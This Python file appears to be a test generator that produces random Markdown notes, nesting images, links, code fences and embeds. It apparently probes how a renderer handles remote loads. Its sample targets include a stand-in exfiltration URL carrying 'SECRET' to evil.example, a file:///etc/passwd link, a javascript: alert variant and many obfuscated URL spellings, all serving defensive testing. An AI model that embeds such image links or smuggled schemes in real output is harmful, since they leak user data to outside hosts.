"""Notes put together at random of what Markdown has, harmless and not, in each other and in odd spellings."""

import random
from collections.abc import Callable, Sequence

WEB = "https://evil.example/?q=SECRET"
ZERO = "\u200b"
TARGETS = (
    WEB, "//evil.example/?q", "\\\\\\\\evil\\\\x.png", "/\\evil.example/x.png", "&#104;ttps://evil.example/x",
    "ht\ntps://e.example", "<https://evil.example/a b>", "data:image/svg+xml,<svg>", "file:///etc/passwd",
    "HTTPS://EVIL",
    "app://local/x.png", "a.png", "attachments/my%20tea.png", "../tea.jpg", "https:evil.example/x.png",
    "java&Tab;script:alert(1)", "obsidian://open?x", "%2f%2fevil.example/x.png", "a.svg",
    "\uff0f\uff0fevil.example/x.png",
)  # fmt: skip
LANGUAGES = (
    "", "python", "js", "json", "text", "bash", "dataview", "dataviewjs", "base", "query", "mermaid", "leaflet",
    "button", "ad-note", "run-python", "python {run}", "Python", "data&#118;iew", "chart", "excalidraw",
    "jsx:component:x", "ics",
)  # fmt: skip
HEADERS = (
    f"---\nbanner: {WEB}\n---\n",
    "---\ncssclasses: x\n---\n",
    "---\ntitle: a\n---\n",
    "\ufeff---\npublish: true\n---\n",
)
PIECES = (ZERO, "\\", "`", "%%", "$$", "\n", "    ", "\t", "<!--", "> ", "[", "&")
WORDS = (
    "tea",
    "*tea*",
    "**green** tea",
    "中文",
    "5 < 6",
    "a_b_c",
    "x ![",
    "]",
    "![](",
    "`",
    "``",
    "\\",
    "&lt;img&gt;",
    "$",
    "!",
)
HARMLESS = (
    "tea",
    "*green* tea",
    "**oolong**",
    "`code`",
    "中文",
    "[tea](https://tea.example/a)",
    "[[Tea|it]]",
    "a<br>b",
    "50 $",
)


def harmless(chance: random.Random) -> str:
    """A note that anybody would write, in which nothing acts."""

    def words() -> str:
        return " ".join(chance.sample(HARMLESS, chance.randint(1, 4)))

    blocks: tuple[Callable[[], str], ...] = (
        words,
        lambda: f"## {words()}",
        lambda: f"- {words()}\n  - [ ] {words()}\n1. {words()}",
        lambda: f"> [!tip] Tea\n> {words()}",
        lambda: f"| a | b |\n|---|---|\n| {chance.choice(('tea', '`x`'))} | 2 |",
        lambda: "```python\nprint('![x](https://a)', a[1], '<img src=x>')\n```",
        lambda: "$$\\frac{1}{2} \\cdot \\alpha$$",
        lambda: "![](attachments/tea.png) and ![[tea.png|200]]",
        lambda: "A note[^1].\n\n[^1]: From [there](https://tea.example).",
        lambda: f"{words()}\n\n---",
    )
    head = "---\ntitle: Tea\ntags: [tea, green]\nsource: https://tea.example\n---\n" if chance.random() < 0.3 else ""
    return head + "\n\n".join(chance.choice(blocks)() for _ in range(chance.randint(1, 6))) + "\n"


def composed(chance: random.Random) -> str:
    """A note of random constructs in each other."""
    head = chance.choice(("", "", "", *HEADERS))
    blocks = [_block(chance, 2) for _ in range(chance.randint(1, 3))]
    text = head + chance.choice(("\n\n", "\n", "\n\n\n")).join(blocks) + chance.choice(("", "\n"))
    return _odd(chance, text)


def _odd(chance: random.Random, text: str) -> str:
    kind = chance.randint(0, 11)
    if kind == 0:
        return text.replace("\n", "\r\n")
    if kind == 1:
        return text.replace("\n", "\r")
    if kind == 2:
        at = chance.randint(0, len(text))
        return text[:at] + chance.choice(PIECES) + text[at:]
    return text


def _one(chance: random.Random, makers: Sequence[Callable[[], str]]) -> str:
    return chance.choice(makers)()


def _inline(chance: random.Random, depth: int) -> str:
    if depth <= 0 or chance.random() < 0.5:
        return chance.choice((*WORDS, *HARMLESS))
    inner = _inline(chance, depth - 1)
    target = chance.choice(TARGETS)
    return _one(
        chance,
        (
            lambda: f"{inner} {_inline(chance, depth - 1)}",
            lambda: f"![{inner}]({target})",
            lambda: f'![{inner}]({target} "{inner}")',
            lambda: f"[{inner}]({target})",
            lambda: f"[![{inner}]({target})](https://tea.example)",
            lambda: f"![{inner}][r]",
            lambda: "![r]",
            lambda: "![r][]",
            lambda: f"![[{chance.choice(('tea.png', 'tea.png|100', 'Tea', 'a.canvas', 'b.base', WEB, 'x.pdf'))}]]",
            lambda: f"`{inner}`",
            lambda: f"`{chance.choice(('= this.pin', '$= dv.x', '=x', 'a = b'))}`",
            lambda: f"<{chance.choice(('b', 'img src=//e', 'iframe', 'div', 'b onclick=x', 'br'))}>{inner}",
            lambda: f"\\{inner}",
            lambda: f"*{inner}*",
            lambda: f"^[{inner}]",
            lambda: f"$\\{chance.choice(('frac{1}{2}', 'style{background:url(//e)}{x}', 'alpha'))}$",
            lambda: f"<% {inner} %>",
            lambda: f"%%{inner}",
            lambda: f"{inner}\n{inner}",
        ),
    )


def _block(chance: random.Random, depth: int) -> str:
    inner = _inline(chance, 2) if depth <= 0 or chance.random() < 0.4 else _block(chance, depth - 1)
    line = _inline(chance, 2)
    fence = chance.choice(("```", "~~~", "````", "``` "))
    language = chance.choice(LANGUAGES)
    return _one(
        chance,
        (
            lambda: line,
            lambda: line,
            lambda: f"# {line}",
            lambda: _led(inner, "> "),
            lambda: f"- {_led(inner, '  ').lstrip()}",
            lambda: f"1. {_led(inner, '   ').lstrip()}",
            lambda: f"{fence}{language}\n{inner}\n{fence.strip()}",
            lambda: f"{fence}{language}\n{inner}",
            lambda: _led(inner, "    "),
            lambda: f"| a | b |\n|---|---|\n| `{line} | {line}` |",
            lambda: f"[^1]: {line}",
            lambda: f"[r]: {chance.choice(TARGETS)}",
            lambda: f"%%\n{inner}\n%%",
            lambda: f"$$\n{inner}\n$$",
            lambda: f"> [!{chance.choice(('note', 'tip', 'ad-x'))}] {line}",
            lambda: f"{line}\n---",
            lambda: f"cover:: {WEB}",
        ),
    )


def _led(text: str, lead: str) -> str:
    return "\n".join(lead + line for line in text.split("\n"))
